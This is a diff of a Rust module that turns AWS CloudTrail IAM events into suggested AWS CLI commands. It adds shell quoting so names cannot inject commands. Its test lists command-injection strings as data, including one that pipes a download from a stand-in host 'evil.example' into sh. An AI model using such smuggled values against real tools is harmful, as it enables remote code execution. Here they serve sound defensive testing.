@@ -1,5 +1,8 @@
 //! What events of IAM tell, alike for all controls.
 
+use std::borrow::Cow;
+
+use serde_json::Value;
 use snapback::change::{IamIdentity, IdentityKind};
 use snapback::event::Event;
 use snapback::json;
@@ -25,7 +28,7 @@ pub(crate) fn whose<'a>(event: &'a Event, answer: &'a str) -> Whose<'a> {
     let user = named.or_else(|| json::text(&event.response[answer], "userName"));
     let caller = event.actor.name.as_deref().filter(|_| event.actor.kind == "IAMUser");
     match user {
-        Some(user) if caller == Some(user) => Whose::Callers(user),
+        Some(user) if caller.is_some_and(|caller| caller.eq_ignore_ascii_case(user)) => Whose::Callers(user),
         Some(user) => Whose::Anothers(user),
         None if event.actor.kind == "Root" => Whose::Roots,
         None => caller.map_or(Whose::Untold, Whose::Callers),
@@ -39,7 +42,28 @@ pub(crate) fn identity(event: &Event) -> Option<IamIdentity> {
         name if name.contains("GroupPolicy") => (IdentityKind::Group, "groupName"),
         _ => (IdentityKind::User, "userName"),
     };
-    Some(IamIdentity { kind, name: json::text(&event.request, field)?.to_owned() })
+    Some(IamIdentity::named(kind, json::text(&event.request, field)?))
+}
+
+/// A text as a word of a command, for people to run: paths of IAM hold what shells act on.
+pub(crate) fn word(text: &str) -> Cow<'_, str> {
+    // Only a text with a zero byte is none, which no name holds.
+    shlex::try_quote(text).unwrap_or(Cow::Borrowed("''"))
+}
+
+/// One text, or several.
+pub(crate) fn texts(value: &Value) -> Vec<String> {
+    match value {
+        Value::String(text) => vec![text.clone()],
+        several => json::list(several).into_iter().filter_map(Value::as_str).map(str::to_owned).collect(),
+    }
+}
+
+/// A name as IAM has it, if it has it in another case: the names of users, groups, roles and policies differ by more.
+/// <https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html#reference_iam-quotas-names>
+pub(crate) fn spelled<'a>(name: &str, known: impl IntoIterator<Item = &'a String>) -> String {
+    let mut known = known.into_iter();
+    known.find(|one| one.eq_ignore_ascii_case(name)).map_or_else(|| name.to_owned(), Clone::clone)
 }
 
 pub(crate) fn subject(event: &Event, of: &IamIdentity) -> Subject {
@@ -58,9 +82,9 @@ pub(crate) fn instance_profile(event: &Event, name: &str) -> Subject {
 /// The word of the command line for what an identity is, and the option that names it.
 pub(crate) fn option_of(of: &IamIdentity) -> (&'static str, String) {
     match of.kind {
-        IdentityKind::User => ("user", format!("--user-name {}", of.name)),
-        IdentityKind::Role => ("role", format!("--role-name {}", of.name)),
-        IdentityKind::Group => ("group", format!("--group-name {}", of.name)),
+        IdentityKind::User => ("user", format!("--user-name {}", word(&of.name))),
+        IdentityKind::Role => ("role", format!("--role-name {}", word(&of.name))),
+        IdentityKind::Group => ("group", format!("--group-name {}", word(&of.name))),
     }
 }
 
@@ -92,6 +116,20 @@ pub(crate) fn through_cloudformation(event: &Event) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_shell_acts_on_what_a_name_holds() {
+        for path in ["/$(curl${IFS}evil.example|sh)/", "/`id`/", "/';id;'/", "/a&b<c>#!/"] {
+            let arn = format!("arn:aws:iam::111122223333:policy{path}p");
+            let command = format!("aws iam get-policy --policy-arn {}", word(&arn));
+            assert_eq!(shlex::split(&command).expect("a command").last(), Some(&arn), "{command}");
+            assert!(word(&arn).starts_with('\'') || word(&arn).starts_with('"'), "{command}");
+        }
+        assert_eq!(
+            word("arn:aws:iam::111122223333:policy/team/p+=,.@_-"),
+            "arn:aws:iam::111122223333:policy/team/p+=,.@_-"
+        );
+    }
 
     #[test]
     fn a_role_is_of_aws_by_the_beginning_of_its_path_alone() {
